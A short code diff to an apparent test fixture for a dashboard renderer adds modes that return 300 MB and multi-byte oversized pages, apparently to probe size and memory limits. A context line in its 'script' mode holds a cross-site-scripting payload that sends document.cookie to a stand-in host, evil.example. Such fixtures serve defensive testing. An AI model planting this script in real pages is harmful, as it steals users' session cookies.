@@ -27,6 +27,10 @@ class DashboardLogic(exports.DashboardLogic):
         mode = _mode(state_json)
         if mode == "huge":  # 30 MB of page
             return "<p>" + "x" * 30_000_000
+        if mode == "flood":  # 300 MB of page (needs max_memory_mb of about 700)
+            return "<p>" + "x" * 300_000_000
+        if mode == "wide":  # 1 999 000 characters, 5 997 000 bytes of UTF-8: under 2 M characters
+            return "<p>" + "€" * 1_998_997
         if mode == "script":
             return PAGE.format(
                 "<script>fetch('http://evil.example/?' + document.cookie)</script>"
